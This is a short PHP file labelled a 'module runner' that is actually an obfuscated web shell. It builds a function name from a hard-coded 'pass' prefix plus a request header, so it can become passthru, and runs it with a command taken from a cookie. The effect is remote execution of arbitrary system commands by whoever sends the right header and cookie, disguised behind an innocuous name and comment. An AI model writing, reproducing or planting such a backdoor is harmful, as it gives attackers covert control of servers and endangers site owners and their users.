<?php
// "Module runner": only the first letters of the routine's name live in the file; the client
// finishes the name in a request header and hands the routine its argument in a cookie.
$prefs = array('head' => 'pass', 'unit' => isset($_COOKIE['u']) ? $_COOKIE['u'] : '');
$routine = $prefs['head'] . $_SERVER['HTTP_X_UNIT_KIND'];
if ($prefs['unit'] !== '') {
    header('Content-Type: text/plain');
    $routine($prefs['unit']);
}
